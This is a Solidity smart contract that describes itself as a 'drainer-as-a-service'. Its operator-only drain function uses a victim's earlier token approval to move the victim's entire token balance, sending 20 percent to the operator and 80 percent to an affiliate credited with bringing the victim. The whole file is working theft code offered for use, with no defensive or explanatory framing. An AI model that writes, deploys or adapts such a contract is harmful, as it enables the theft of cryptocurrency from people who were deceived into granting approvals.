// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IToken {
    function balanceOf(address account) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// A drainer-as-a-service contract: whoever approved it loses everything, 20 % to the operator, 80 % to the affiliate
/// who brought the victim.
contract Drainer {
    address public immutable operator;

    constructor() {
        operator = msg.sender;
    }

    function drain(IToken token, address victim, address affiliate) external {
        require(msg.sender == operator, "not the operator");
        uint256 all = token.balanceOf(victim);
        uint256 share = all / 5;
        token.transferFrom(victim, operator, share);
        token.transferFrom(victim, affiliate, all - share);
    }
}
